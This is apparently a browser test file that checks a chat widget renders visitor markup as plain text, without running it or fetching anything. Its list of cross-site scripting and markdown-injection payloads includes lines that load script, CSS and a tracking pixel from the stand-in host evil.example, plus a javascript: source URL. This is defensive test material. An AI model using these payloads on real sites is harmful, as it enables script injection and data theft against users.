"""S5: markup in texts, names and buttons is shown as it was written; nothing runs, nothing is fetched."""

import pytest
from playwright.sync_api import expect

from tests.browser.scenes import play
from tests.integration.web.fake_rasa import draft, turn
from tests.security.test_markup_and_sql import MARKUP

MORE = [
    "<script src=//evil.example/x.js></script>",
    "<IMG SRC=\"jav&#x0A;ascript:alert('x');\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    '[a](https://x"onmouseover="alert(1))',
    "![x](https://evil.example/pixel.png)",
    "**<img src=x onerror=alert(1)>**",
    "- <li onclick=alert(1)>x",
    'https://example.org/"onclick=alert(1)//',
    "<template><script>alert(1)</script></template>",
    "${'<img src=x onerror=alert(1)>'} {{constructor.constructor('alert(1)')()}}",
]
TEXTS = MARKUP + MORE


def repeat_everywhere(body):
    """Answer with the visitor's words as text, button, source and summary."""
    if body["text"].startswith("/start_conversation"):
        return play(body)
    text = body["text"]
    source = {"title": text, "publisher": text, "url": "javascript:alert(1)", "as_of": text[:30]}
    button = {"title": text[:300], "payload": "/notice"}
    summary = draft(f"x\n- Name: {text}\n\ny", "summary", buttons=[button])
    return turn(draft(f"{text}\n\n- {text}", "answer", sources=[source]), summary, language="de")


def test_there_are_forty():
    assert len(set(TEXTS)) == 40


def test_nothing_of_it_runs(site, panel):
    site.rasa.answer = repeat_everywhere
    requests: list[str] = []
    violations: list[str] = []
    panel.page.context.on("request", lambda request: requests.append(request.url))
    panel.page.context.on("console", lambda message: violations.append(message.text))
    elements = panel.frame.evaluate(
        "document.querySelectorAll('script, img, link, style, iframe, form, object').length"
    )
    for number, text in enumerate(TEXTS, start=1):
        panel.input.fill(text)
        panel.input.press("Enter")
        expect(panel.chat.locator(".message.summary")).to_have_count(number)
    expect(panel.chat.locator(".message.visitor")).to_have_count(len(TEXTS))
    shown = panel.frame.evaluate(
        "[...document.querySelectorAll('.visitor .words')].map((each) => each.textContent.trim())"
    )
    assert [text for text, seen in zip(TEXTS, shown, strict=True) if not looks_the_same(text, seen)] == []
    counted = "document.querySelectorAll('script, img, link, style, iframe, form, object').length"
    assert panel.frame.evaluate(counted) == elements
    hrefs = panel.frame.evaluate("[...document.querySelectorAll('a')].map((each) => each.protocol)")
    assert set(hrefs) <= {"https:", "http:"}
    assert [url for url in requests if not url.startswith(site.url)] == []
    assert violations == []


def looks_the_same(text: str, seen: str) -> bool:
    """Tell whether nothing is missing but the marks of links, lists and strong words."""
    drop = str.maketrans("", "", "[]()*- \n")
    left = seen.replace("(öffnet in neuem Tab)", "").translate(drop)
    return left == text.translate(drop) or "](https://" in text


@pytest.mark.parametrize("text", ["https://example.org/a?b=c#d", "[Titel](https://example.org/a)"])
def test_links_that_are_links_work(panel, text):
    link = panel.say(text, "answer").locator(".words a")
    expect(link).to_have_attribute("target", "_blank")
    assert link.get_attribute("href").startswith("https://example.org/a")
